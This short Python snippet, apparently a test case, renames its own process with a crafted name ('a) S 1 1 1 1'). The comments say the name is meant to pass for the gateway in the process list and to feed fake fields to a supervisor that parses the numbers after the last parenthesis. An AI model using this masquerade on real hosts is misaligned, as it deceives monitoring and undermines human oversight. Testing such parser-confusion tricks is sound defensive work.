# tries: to pass for the gateway in the host's list of processes and to confuse those who read it
# layer: the supervisor reads the numbers behind the last parenthesis
# prints: DONE
# itself: it says that the name was set, and calls are answered after it
# bare: DONE
def rename():
    if call("prctl", 15, b"a) S 1 1 1 1\0", 0, 0, 0) != "OK": raise OSError(1)
    for i in range(100): os.stat("/etc")
print(outcome(rename))
